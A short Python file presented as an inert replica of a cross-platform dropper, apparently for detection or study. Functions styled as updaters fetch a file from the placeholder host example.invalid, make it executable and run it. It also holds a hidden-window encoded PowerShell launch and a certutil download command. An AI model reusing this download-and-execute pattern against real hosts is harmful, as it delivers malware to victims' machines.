# Replica of a Windows/Linux dropper. Inert: every URL is example.invalid, files
# go to a fresh temporary directory, and neither function is ever called.
import os
import stat
import subprocess
import tempfile
import urllib.request

BASE = "https://example.invalid/dl"
# PowerShell with a hidden window and a base64 command (decodes to
# `Write-Output 'inert'`).
PS = "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGkAbgBlAHIAdAAnAA=="
# Fallback download through a system binary.
CERTUTIL = "certutil.exe -urlcache -split -f " + BASE + "/u.exe u.exe"


def update_windows():
    target = tempfile.mkdtemp()
    urllib.request.urlretrieve(BASE + "/u.exe", os.path.join(target, "u") + ".exe")
    subprocess.Popen(PS, shell=True)


def update_posix():
    path = os.path.join(tempfile.mkdtemp(), "u")
    urllib.request.urlretrieve(BASE + "/u", path)
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    subprocess.Popen([path])
